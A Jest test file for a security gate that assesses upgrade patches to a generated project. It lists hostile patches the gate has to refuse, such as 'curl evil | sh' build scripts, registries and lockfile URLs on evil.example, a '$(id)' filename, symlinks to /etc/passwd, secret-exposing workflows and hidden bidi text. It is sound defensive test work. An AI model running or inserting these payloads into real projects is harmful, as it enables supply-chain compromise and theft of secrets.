import { chmodSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { contentHash } from '../../../src/files/content';
import type { UpgradeKind } from '../../../src/lifecycle/upgrade/kinds';
import { programsIn } from '../../../src/lifecycle/upgrade/program';
import { type Assessment, assess } from '../../../src/lifecycle/upgrade/propose/assess';
import { gitOf, type RunGit } from '../../../src/lifecycle/upgrade/propose/git';
import { Host } from '../../../src/lifecycle/upgrade/propose/host';
import { ACTIONS, referenceTo } from '../../../src/project/workflows/actions';
import { GeneratedRepository, locked, type NpmLock } from './support/generated-repository';

// every patch is applied by git
jest.setTimeout(120_000);

const LOCK = 'package-lock.json';
const MANIFEST = '.udp-service/manifest.json';
const BUILD = '.github/workflows/build.yml';
const SNAPSHOT = 'test/template/__snapshots__/stages.test.ts.snap';
const OTHER = '0123456789abcdef0123456789abcdef01234567';

let repository: GeneratedRepository;
let git: RunGit;

beforeAll(() => {
  repository = new GeneratedRepository();
  git = gitOf(programsIn(repository.directory, new AbortController().signal));
});
afterAll(() => repository.close());

/** What the host says of releases of actions. */
const RELEASES: Readonly<Record<string, object>> = {
  'repos/actions/checkout/git/ref/tags/v7.1.0': { object: { type: 'commit', sha: OTHER } },
  'repos/actions/setup-node/git/ref/tags/v7.1.0': { object: { type: 'tag', sha: 'f00' } },
  'repos/actions/setup-node/git/tags/f00': { object: { type: 'commit', sha: OTHER } },
};
const host = new Host(async ([, path]) => {
  const answer = RELEASES[path as string];
  if (answer === undefined) throw new Error('HTTP 404');
  return JSON.stringify(answer);
});

function assessed(kind: UpgradeKind, patch: string): Promise<Assessment> {
  const { head, directory } = repository;
  const pinned = Object.values(ACTIONS).map((one) => referenceTo(one));
  const actions = new Map(pinned.map(({ uses, version }) => [uses, version]));
  return assess(git, host, patch, { kind, directory, trusted: head, madeOn: head, base: 'main', actions });
}

const lock = (how: (packages: NpmLock['packages'], whole: NpmLock) => void) => () =>
  repository.editJson<NpmLock>(LOCK, (whole) => how(whole.packages, whole));
type Json = Record<string, never> & { [key: string]: Json };
const json = (path: string, how: (value: Json) => unknown) => () => repository.editJson<Json>(path, how);
const write =
  (path: string, text = 'x\n') =>
  () =>
    repository.write(path, text);
const edit = (path: string, from: string | RegExp, to: string) => () =>
  repository.edit(path, (text) => {
    const edited = text.replace(from, to);
    if (edited === text) throw new Error(`${path} has no ${from}`);
    return edited;
  });
const all =
  (...changes: (() => unknown)[]) =>
  () => {
    for (const change of changes) change();
  };
const prettier = lock((packages) => {
  packages['node_modules/prettier'] = locked('prettier', '3.9.0');
});
const entry = (name: string, version: string, more: object) =>
  lock((packages) => {
    packages[`node_modules/${name}`] = locked(name, version, more);
  });
/** What an upgrade of the template says of itself. */
const version = (files: (manifest: Json) => unknown = () => undefined) =>
  json(MANIFEST, (manifest) => {
    Object.assign(manifest.template as object, { version: '1.1.0' });
    files(manifest);
  });
const migrated = (files: (manifest: Json) => unknown = () => undefined) =>
  version((manifest) => {
    (manifest.migrations as unknown as string[]).push('1.1.0-names');
    files(manifest);
  });
const managed = (path: string, text: string) =>
  all(
    write(path, text),
    version((manifest) => {
      Object.assign(manifest.files as object, {
        [path]: { class: 'managed', sha256: contentHash(text), version: '1.1.0' },
      });
    }),
  );
/** The template changes one of its workflows. */
const workflow = (path: string, from: string | RegExp, to: string) =>
  all(
    edit(path, from, to),
    version((manifest) => rehash(manifest, path)),
  );
function rehash(manifest: Json, ...paths: string[]): void {
  const { readFileSync } = jest.requireActual<typeof import('node:fs')>('node:fs');
  for (const path of paths) {
    const text = readFileSync(join(repository.directory, path), 'utf8');
    Object.assign(manifest.files[path] as object, { sha256: contentHash(text) });
  }
}
const rehashed = (change: () => unknown, ...paths: string[]) =>
  all(
    change,
    version((manifest) => rehash(manifest, ...paths)),
  );
type Case = readonly [why: string, kind: UpgradeKind, change: () => unknown, cause: RegExp];

const HOSTILE: readonly Case[] = [
  // files that no upgrade of dependencies changes
  ['a workflow', 'dependencies', write('.github/workflows/zz.yml', 'on: push\njobs: {}\n'), /changes no such file/],
  ['a workflow of the template', 'cdk', edit(BUILD, 'Build', 'Built'), /changes no such file/],
  ['a file beside package.json', 'dependencies', all(prettier, write('package.json.note')), /changes no such file/],
  ['a source', 'dependencies', edit('src/template/app.ts', '\n', '\n// x\n'), /changes no such file/],
  ['an extension', 'cdk', edit('src/extensions.ts', '\n', '\n// x\n'), /changes no such file/],
  ['the options', 'cdk', edit('.projenrc.ts', 'echo', 'ohce'), /changes no such file/],
  ['the tasks', 'dependencies', edit('.projen/tasks.json', '"tasks"', '"tasks" '), /changes no such file/],
  ['the settings of npm', 'dependencies', write('.npmrc', 'registry=https://evil.example\n'), /changes no such file/],
  [
    'what was acknowledged',
    'dependencies',
    write('.udp-service/acknowledgements.json', '{}\n'),
    /changes no such file/,
  ],
  ['other snapshots', 'cdk', write('test/__snapshots__/mine.test.ts.snap'), /changes no such file/],
  [
    'snapshots at another place',
    'cdk',
    write('test/elsewhere/__snapshots__/stages.test.ts.snap'),
    /changes no such file/,
  ],
  [
    'snapshots at another place, and no migration',
    'template',
    all(version(), write('test/elsewhere/__snapshots__/stages.test.ts.snap')),
    /the manifest does not know it/,
  ],
  [
    'snapshots that are gone',
    'template',
    all(migrated(), () => rmSync(join(repository.directory, SNAPSHOT))),
    /snapshots are removed/,
  ],
  ['nothing', 'cdk', () => undefined, /changes nothing|cannot apply/],
  // paths, modes, links, other repositories
  ['a hook of husky', 'template', write('.husky/pre-commit'), /machines of others/],
  ['a task of an editor', 'template', write('.vscode/tasks.json', '{}\n'), /machines of others/],
  [
    'a file of git below a folder',
    'template',
    write('src/.gitattributes', '* filter=x\n'),
    /manifest does not know|below a folder/,
  ],
  ['the folder of workflows in other letters', 'template', write('.GitHub/workflows/x.yml'), /only looks like/],
  ['a file in other letters', 'template', write('Package.json', '{}\n'), /same file as package\.json/],
  ['a name that Windows shortens', 'template', write('src/con.ts'), /takes? its name for another/],
  ['a name with signs of a shell', 'template', write('src/$(id).ts'), /signs that no file/],
  ['a name that is quoted', 'template', write('src/a"b.ts'), /signs that no file/],
  ['a name in other letters than these', 'template', write('src/ѕervice.ts'), /signs that no file/],
  [
    'a symbolic link',
    'template',
    () => symlinkSync('/etc/passwd', join(repository.directory, 'src/link.ts')),
    /symbolic link/,
  ],
  [
    'a lockfile that is a link',
    'dependencies',
    () => {
      rmSync(join(repository.directory, LOCK));
      symlinkSync('README.md', join(repository.directory, LOCK));
    },
    /symbolic link/,
  ],
  ['a list of submodules', 'template', write('.gitmodules', '[submodule "x"]\n'), /machines of others/],
  [
    'a file that can be executed',
    'dependencies',
    all(prettier, () => chmodSync(join(repository.directory, LOCK), 0o755)),
    /can be executed/,
  ],
  [
    'more files than there are',
    'template',
    () => Array.from({ length: 501 }, (_, i) => repository.write(`src/x/${i}.ts`, 'x\n')),
    /501 files/,
  ],
  ['a file without an end', 'dependencies', edit(LOCK, '{', `{${' '.repeat(5_100_000)}`), /bytes, and/],
  [
    'a program in the snapshots',
    'cdk',
    all(prettier, write(SNAPSHOT, 'exports[`a`] = `${process.exit()}`;\n')),
    /something else than snapshots/,
  ],
  [
    'a program behind a comment in the snapshots',
    'dependencies',
    all(prettier, write(SNAPSHOT, '// `\nprocess.exit(); // `\n')),
    /something else than snapshots/,
  ],
  ['text in signs that nobody sees', 'template', managed('src/new.ts', '// \u{e0041}\u{e0042}\n'), /hide text/],
  ['a name that nobody sees', 'template', managed('src/new.ts', 'export const \u3164 = 1;\n'), /hide text/],
  ['a line that covers another one', 'template', managed('src/new.ts', 'evil() // \rgood()\n'), /hide text/],
  ['a hook of an agent', 'template', managed('app/.claude/settings.json', '{}\n'), /machines of others/],
  ['a server of an agent', 'template', managed('app/.mcp.json', '{}\n'), /machines of others/],
  ['attributes of git in other letters', 'template', managed('src/.GitAttributes', '* -diff\n'), /below a folder/],
  ['settings of npm in other letters', 'template', managed('app/.NPMRC', 'x=y\n'), /where packages come from/],
  ['text that is turned round', 'dependencies', edit(LOCK, '"name": "echo"', '"name": "ec\u202eho"'), /hide text/],
  // package.json
  [
    'a script',
    'dependencies',
    json('package.json', (it) => Object.assign(it.scripts as object, { build: 'curl evil' })),
    /"scripts" changes/,
  ],
  [
    'a script of installing',
    'template',
    all(
      version(),
      json('package.json', (it) => Object.assign(it.scripts as object, { postinstall: 'projen postinstall' })),
    ),
    /run by package managers/,
  ],
  [
    'a script that is no task',
    'template',
    all(
      version(),
      json('package.json', (it) => Object.assign(it.scripts as object, { build: 'curl evil | sh' })),
    ),
    /not the task/,
  ],
  [
    'overrides',
    'template',
    all(
      version(),
      json('package.json', (it) => Object.assign(it, { overrides: { semver: 'npm:evil@1' } })),
    ),
    /"overrides" changes/,
  ],
  ['a program', 'cdk', json('package.json', (it) => Object.assign(it, { bin: { x: 'x.js' } })), /"bin" changes/],
  [
    'another dependency',
    'dependencies',
    json('package.json', (it) => Object.assign(it.devDependencies as object, { evil: '^1.0.0' })),
    /asks for evil/,
  ],
  [
    'one dependency less',
    'dependencies',
    json('package.json', (it) => delete (it.devDependencies as Json).prettier),
    /no longer asks/,
  ],
  [
    'a dependency from git',
    'dependencies',
    json('package.json', (it) => Object.assign(it.devDependencies as object, { prettier: 'github:evil/prettier' })),
    /comes from/,
  ],
  [
    'a dependency from an address',
    'template',
    all(
      version(),
      json('package.json', (it) =>
        Object.assign(it.devDependencies as object, { prettier: 'https://evil.example/p.tgz' }),
      ),
    ),
    /comes from/,
  ],
  [
    'another package by its name',
    'dependencies',
    json('package.json', (it) => Object.assign(it.devDependencies as object, { prettier: 'npm:evil@^3' })),
    /comes from/,
  ],
  [
    'an older range',
    'dependencies',
    json('package.json', (it) => Object.assign(it.devDependencies as object, { prettier: '^2.0.0' })),
    /goes back/,
  ],
  [
    'a range that the lockfile has not',
    'dependencies',
    json('package.json', (it) => Object.assign(it.devDependencies as object, { prettier: '^3.5.0' })),
    /and package\.json for/,
  ],
  ['no JSON', 'dependencies', write('package.json', '{'), /no object of JSON/],
  // lockfile
  [
    'another registry',
    'dependencies',
    entry('prettier', '3.9.0', { resolved: 'https://evil.example/prettier/-/prettier-3.9.0.tgz' }),
    /not where the base/,
  ],
  [
    'another package of the registry',
    'dependencies',
    entry('prettier', '3.9.0', { resolved: 'https://registry.example.com/evil/-/prettier-3.9.0.tgz' }),
    /not where the base/,
  ],
  [
    'a way out of the folder of the package',
    'dependencies',
    entry('prettier', '3.9.0', { resolved: 'https://registry.example.com/prettier/%2e%2e/evil/-/prettier-3.9.0.tgz' }),
    /not where the base/,
  ],
  [
    'a password in the address',
    'dependencies',
    entry('prettier', '3.9.0', { resolved: 'https://registry.example.com@evil.example/prettier/-/prettier-3.9.0.tgz' }),
    /not where the base/,
  ],
  [
    'a package of a scope from the public registry',
    'dependencies',
    entry('@acme/tool', '9.9.9', {}),
    /not where the base/,
  ],
  ['no digest', 'dependencies', entry('prettier', '3.9.0', { integrity: undefined }), /digest of SHA-512/],
  [
    'a weak digest',
    'dependencies',
    entry('prettier', '3.9.0', { integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=' }),
    /digest of SHA-512/,
  ],
  [
    'another content of the same version',
    'dependencies',
    lock((packages) => {
      packages['node_modules/prettier'] = {
        ...packages['node_modules/prettier'],
        integrity: `sha512-${'b'.repeat(86)}==`,
      };
    }),
    /another content/,
  ],
  [
    'a package that runs scripts',
    'dependencies',
    entry('prettier', '3.9.0', { hasInstallScript: true }),
    /runs scripts/,
  ],
  [
    'a package of a folder',
    'dependencies',
    entry('prettier', '3.9.0', { resolved: 'app', link: true }),
    /from no registry/,
  ],
  [
    'a package of git',
    'dependencies',
    entry('prettier', '3.9.0', { resolved: 'git+ssh://git@evil.example/p.git#0' }),
    /not where the base/,
  ],
  [
    'another package in its place',
    'dependencies',
    entry('prettier', '3.9.0', { name: 'evil', resolved: 'https://registry.example.com/evil/-/evil-3.9.0.tgz' }),
    /takes the place|is evil there/,
  ],
  ['the package of the CDK', 'dependencies', entry('constructs', '10.9.0', {}), /upgrade of its own/],
  ['the template', 'dependencies', entry('projen-udp-service', '9.9.9', {}), /upgrade of its own/],
  ['a tool', 'cdk', prettier, /upgrade of its own/],
  ['an older version', 'dependencies', entry('typescript', '5.0.0', {}), /goes back/],
  [
    'a dependency that package.json has not',
    'dependencies',
    lock((packages) => Object.assign(packages['']?.devDependencies as object, { evil: '^1' })),
    /and package\.json for/,
  ],
  [
    'another form of the lockfile',
    'dependencies',
    lock((_, whole) => {
      whole.lockfileVersion = 1;
    }),
    /lockfileVersion/,
  ],
  ['no lockfile', 'dependencies', () => rmSync(join(repository.directory, LOCK)), /removed|there is none/],
  [
    'a lockfile that is nested without end',
    'dependencies',
    write(LOCK, `{"lockfileVersion":3,"packages":{"a":${'['.repeat(200_000)}${']'.repeat(200_000)}}}`),
    /cannot be read|nested/,
  ],
  // the manifest
  ['another channel', 'template', version((it) => Object.assign(it, { channel: 'evil' })), /another channel/],
  [
    'another template',
    'template',
    json(MANIFEST, (it) => Object.assign(it.template as object, { name: 'evil' })),
    /another template/,
  ],
  [
    'a file made the template’s',
    'dependencies',
    json(MANIFEST, (it) => Object.assign(it.files['src/extensions.ts'] as object, { class: 'managed' })),
    /says of src\/extensions/,
  ],
  [
    'a migration of no version',
    'template',
    migrated((it) => (it.migrations as unknown as string[]).push('9.9.9-x')),
    /no version up to/,
  ],
  [
    'another content than it tells',
    'template',
    all(version(), edit('src/template/app.ts', '\n', '\n// x\n')),
    /does not tell what lies/,
  ],
  ['no manifest', 'template', () => rmSync(join(repository.directory, MANIFEST)), /it is not there/],
  // files of the template, and of others
  ['a file of the user', 'template', all(version(), edit('src/mine.ts', '1', '2')), /it is yours/],
  [
    'an extension without a migration',
    'template',
    all(version(), edit('src/extensions.ts', '\n', '\n// x\n')),
    /no migration/,
  ],
  [
    'a file of the user that a migration takes away',
    'template',
    all(migrated(), () => rmSync(join(repository.directory, 'src/mine.ts'))),
    /it is yours/,
  ],
  [
    'more than a version in the options',
    'template',
    all(version(), edit('.projenrc.ts', "'echo'", "'ohce'")),
    /more than a version/,
  ],
  ['a new file that nobody tells', 'template', all(version(), write('src/new.ts')), /manifest does not know/],
  [
    'a new file of another content',
    'template',
    all(managed('src/new.ts', 'a\n'), write('src/new.ts', 'b\n')),
    /does not tell/,
  ],
  ['a new file in no room', 'template', managed('scripts/x.ts', 'a\n'), /puts no file there/],
  [
    'a file of the user that becomes the template’s',
    'template',
    all(
      edit('src/mine.ts', '1', '2'),
      version((it) =>
        Object.assign(it.files as object, {
          'src/mine.ts': { class: 'managed', sha256: contentHash('export const OWNER = 2;\n'), version: '1.1.0' },
        }),
      ),
    ),
    /it is yours/,
  ],
  [
    'a filter of git',
    'template',
    all(version(), edit('.gitattributes', '\n', '\n*.ts filter=evil\n')),
    /it says "\*\.ts filter/,
  ],
  [
    'the settings of Yarn',
    'template',
    managed('.yarnrc.yml', 'npmRegistryServer: "https://evil.example"\n'),
    /where packages come from/,
  ],
  ['who reviews', 'template', managed('.github/CODEOWNERS', '* @evil\n'), /who has to review/],
  ['an action of the repository', 'template', managed('.github/actions/x/action.yml', 'a: b\n'), /steps of an action/],
  [
    'what a bot may do',
    'template',
    rehashed(
      json('.github/renovate-udp-service.json', (it) =>
        Object.assign(it, { postUpgradeTasks: { commands: ['evil'] } }),
      ),
      '.github/renovate-udp-service.json',
    ),
    /lets a bot/,
  ],
  // workflows
  [
    'a new workflow that the manifest knows',
    'template',
    managed('.github/workflows/zz.yml', 'on: push\npermissions: {}\njobs: {}\n'),
    /puts no file there/,
  ],
  [
    'a workflow of the user',
    'template',
    all(version(), edit('.github/workflows/mine.yml', 'push', 'pull_request')),
    /it is yours/,
  ],
  ['another event', 'template', workflow(BUILD, 'merge_group: {}', 'pull_request_target: {}'), /by which it did not/],
  [
    'an event on other branches',
    'template',
    workflow('.github/workflows/deploy.yml', /- main/, "- '**'"),
    /starts otherwise by push/,
  ],
  ['a permission', 'template', workflow(BUILD, 'contents: read', 'contents: write'), /permission contents: write/],
  [
    'every permission',
    'template',
    workflow(BUILD, 'permissions: {}', 'permissions: write-all'),
    /permission all: write/,
  ],
  ['the permissions of the settings', 'template', workflow(BUILD, 'permissions: {}\n', ''), /permission all: write/],
  ['a secret', 'template', workflow(BUILD, 'CI: "true"', 'CI: ${{ secrets.UPGRADE_TOKEN }}'), /secret UPGRADE_TOKEN/],
  ['every secret', 'template', workflow(BUILD, 'CI: "true"', 'CI: ${{ toJSON(Secrets) }}'), /does not name/],
  [
    'a secret by another way to name it',
    'template',
    workflow(BUILD, 'CI: "true"', "CI: ${{ '}}' && secrets['UPGRADE_TOKEN'] }}"),
    /does not name/,
  ],
  [
    'an environment',
    'template',
    workflow(BUILD, 'name: Build\n', 'name: Build\n    environment: prod\n'),
    /another "environment"/,
  ],
  [
    'another action',
    'template',
    workflow(BUILD, /actions\/checkout@\w+ # v[\d.]+/, `evil/checkout@${OTHER} # v1.0.0`),
    /runs the action evil/,
  ],
  [
    'a commit of a fork of a known action',
    'template',
    workflow(BUILD, /actions\/checkout@\w+ # v[\d.]+/, `actions/checkout@${OTHER} # v9.0.0`),
    /runs the action actions\/checkout/,
  ],
  [
    'an action of the repository in a workflow',
    'template',
    workflow(BUILD, /actions\/checkout@\w+ # v[\d.]+/, './.github/actions/x'),
    /runs the action/,
  ],
  ['another machine', 'template', workflow(BUILD, 'ubuntu-24.04', 'evil-runner'), /another machine/],
  [
    'a container',
    'template',
    workflow(BUILD, 'name: Build\n', 'name: Build\n    container: evil/image\n'),
    /another "container"/,
  ],
  [
    'a script that gets what others wrote',
    'template',
    workflow(BUILD, 'run: npx --no-install projen build', 'run: echo ${{ github.head_ref }}'),
    /expression into a script/,
  ],
  [
    'another script of a job that a pull request starts and that can write',
    'template',
    workflow(BUILD, 'gzip --stdout', 'curl evil.example; gzip --stdout'),
    /before anybody has looked/,
  ],
  [
    'settings around a job that can write',
    'template',
    workflow(BUILD, 'permissions: {}\n', 'permissions: {}\nenv:\n  BASH_ENV: app/x.sh\n'),
    /all of its jobs/,
  ],
  ['a workflow with anchors', 'template', workflow(BUILD, 'permissions: {}\n', 'permissions: &x {}\n'), /an anchor/],
  [
    'a workflow with a key twice',
    'template',
    workflow(BUILD, 'permissions: {}\n', 'permissions: {}\npermissions: write-all\n'),
    /unique|twice/i,
  ],
];

const HARMLESS: readonly (readonly [why: string, kind: UpgradeKind, change: () => unknown, byItself: boolean])[] = [
  ['a newer tool', 'dependencies', prettier, true],
  [
    'a newer tool with its range',
    'dependencies',
    all(
      lock((packages) => {
        packages['node_modules/prettier'] = locked('prettier', '3.9.0');
        Object.assign(packages['']?.devDependencies as object, { prettier: '^3.9.0' });
      }),
      json('package.json', (it) => Object.assign(it.devDependencies as object, { prettier: '^3.9.0' })),
    ),
    true,
  ],
  [
    'a newer tool that asks for another package',
    'dependencies',
    lock((packages) => {
      packages['node_modules/prettier'] = locked('prettier', '3.9.0', { dependencies: { fresh: '^1' } });
      packages['node_modules/fresh'] = locked('fresh', '1.0.0');
    }),
    true,
  ],
  [
    'a newer tool that brings a package in itself',
    'dependencies',
    lock((packages) => {
      packages['node_modules/prettier'] = locked('prettier', '3.9.0');
      packages['node_modules/prettier/node_modules/x'] = { version: '1.0.0', inBundle: true };
    }),
    true,
  ],
  ['a package that the deployment asks for by another', 'dependencies', entry('semver', '7.9.0', {}), false],
  [
    'what only another package asks for, but the deployment as well',
    'dependencies',
    all(prettier, entry('semver', '7.9.0', {})),
    false,
  ],
  [
    'the CDK with its snapshots',
    'cdk',
    all(entry('constructs', '10.9.0', {}), write(SNAPSHOT, '// Jest Snapshot v1\n')),
    false,
  ],
  ['snapshots beside a tool', 'dependencies', all(prettier, write(SNAPSHOT, '// Jest Snapshot v1\n')), false],
  [
    'a version of the template',
    'template',
    all(
      version(),
      entry('projen-udp-service', '1.1.0', {}),
      edit('.projenrc.ts', 'projen-udp-service@0.0.0', 'projen-udp-service@1.1.0'),
    ),
    false,
  ],
  ['a new file of the template', 'template', managed('src/new.ts', 'export {};\n'), false],
  [
    'a changed one, and a task',
    'template',
    all(
      rehashed(edit('src/template/app.ts', '\n', '\n// x\n'), 'src/template/app.ts'),
      json('package.json', (it) => Object.assign(it.scripts as object, { fresh: 'projen fresh' })),
    ),
    false,
  ],
  [
    'a file that a migration moves, and the options',
    'template',
    all(
      migrated((it) => {
        const files = it.files as Json;
        Object.assign(files, { 'src/hooks.ts': files['src/extensions.ts'] });
        delete files['src/extensions.ts'];
      }),
      () => repository.move('src/extensions.ts', 'src/hooks.ts'),
      edit('.projenrc.ts', "'echo'", "'ohce'"),
    ),
    false,
  ],
  [
    'the test of the template and its snapshots, which a migration moves and the version changes',
    'template',
    all(
      migrated((it) => {
        const files = it.files as Json;
        Object.assign(files, { 'test/other/stages.test.ts': files['test/template/stages.test.ts'] });
        delete files['test/template/stages.test.ts'];
      }),
      () => repository.move('test/template/stages.test.ts', 'test/other/stages.test.ts'),
      () => rmSync(join(repository.directory, SNAPSHOT)),
      write('test/other/__snapshots__/stages.test.ts.snap', '// Jest Snapshot v1\n\nexports[`b`] = `2`;\n'),
    ),
    false,
  ],
  [
    'another script of a job that only reads',
    'template',
    workflow(BUILD, 'projen build', 'projen build --debug'),
    false,
  ],
  [
    'a release of an action that its repository has',
    'template',
    workflow(BUILD, /actions\/checkout@\w+ # v[\d.]+/, `actions/checkout@${OTHER} # v7.1.0`),
    false,
  ],
  [
    'a release of an action by an annotated tag',
    'template',
    workflow(BUILD, /actions\/setup-node@\w+ # v[\d.]+/, `actions/setup-node@${OTHER} # v7.1.0`),
    false,
  ],
  ['less permissions', 'template', workflow(BUILD, 'contents: read', 'contents: none'), false],
];

test.each(HOSTILE)('%s is not taken from an upgrade of %s', async (_why, kind, change, cause) => {
  const { refusals } = await assessed(kind, repository.patchOf(change));
  expect(refusals.map(({ path, cause: why }) => `${path}: ${why}`).join('\n')).toMatch(cause);
});

test.each([
  ['a command of what deploys', { bin: { cdk: 'x.js' } }],
  ['a command of the system', { bin: { prettier: 'x.js', git: 'x.js' } }],
])('a tool that brings %s waits for a person', async (_why, more) => {
  const { refusals, needsPerson } = await assessed(
    'dependencies',
    repository.patchOf(entry('prettier', '3.9.0', more)),
  );
  expect(refusals).toEqual([]);
  expect(needsPerson).toMatch(/prettier brings the command "(cdk|prettier)"/);
});

test.each(HARMLESS)('%s is taken from an upgrade of %s', async (_why, kind, change, byItself) => {
  const { refusals, needsPerson } = await assessed(kind, repository.patchOf(change));
  expect(refusals).toEqual([]);
  expect(needsPerson === undefined).toBe(byItself);
});

const file = (path: string, more = 'new file mode 100644\n') =>
  `diff --git a/${path} b/${path}\n${more}--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+x\n`;

test.each([
  ['out of the repository', file('../evil.ts')],
  ['at a whole path', '--- /dev/null\n+++ /etc/evil\n@@ -0,0 +1 @@\n+x\n'],
  ['into the folder of git', file('.git/hooks/pre-push', 'new file mode 100755\n')],
  ['into the folder of git in other letters', file('.GIT/config')],
  ['into the folder of git by its short name', file('git~1/config')],
  ['with a path that is quoted', file('x').replaceAll('b/x', '"b/\\056git/config"')],
  ['with a zero in its path', file('x').replaceAll('b/x', '"b/src/a\\000b.ts"')],
  ['with a way round through a folder', file('src/../.github/workflows/x.yml')],
  ['with a backslash', file('x').replaceAll('b/x', '"b/src\\\\x.ts"')],
  [
    'with a move',
    'diff --git a/src/template/app.ts b/.github/workflows/x.yml\nsimilarity index 100%\nrename from src/template/app.ts\nrename to .github/workflows/x.yml\n',
  ],
  [
    'with a copy',
    'diff --git a/src/template/app.ts b/.github/workflows/x.yml\nsimilarity index 100%\ncopy from src/template/app.ts\ncopy to .github/workflows/x.yml\n',
  ],
  [
    'with a binary file',
    'diff --git a/x.bin b/x.bin\nnew file mode 100644\nindex 0000000..1111111\nGIT binary patch\nliteral 9\nQcmZ\n\n',
  ],
  [
    'with another mode alone',
    'diff --git a/src/template/app.ts b/src/template/app.ts\nold mode 100644\nnew mode 100755\n',
  ],
  [
    'with a submodule',
    `diff --git a/src/sub b/src/sub\nnew file mode 160000\nindex 0000000..${OTHER.slice(0, 7)}\n--- /dev/null\n+++ b/src/sub\n@@ -0,0 +1 @@\n+Subproject commit ${OTHER}\n`,
  ],
  ['that is none', 'hello\n'],
  ['that is empty', ''],
])('a patch %s is not taken, whatever the kind', async (_why, text) => {
  const before = repository.branches;
  for (const kind of ['dependencies', 'template'] as const) {
    const { refusals } = await assessed(kind, repository.keep(text));
    expect(refusals).not.toEqual([]);
  }
  expect(repository.git('status', '--porcelain')).toBe('');
  expect(repository.branches).toBe(before);
});

test('a patch that is a link or no file is not read', async () => {
  const link = join(repository.folder, 'link.patch');
  symlinkSync('/etc/passwd', link);
  expect((await assessed('cdk', link)).refusals).toEqual([{ path: '', cause: 'it is a symbolic link' }]);
  expect((await assessed('cdk', repository.folder)).refusals).toEqual([{ path: '', cause: 'it is no file' }]);
});
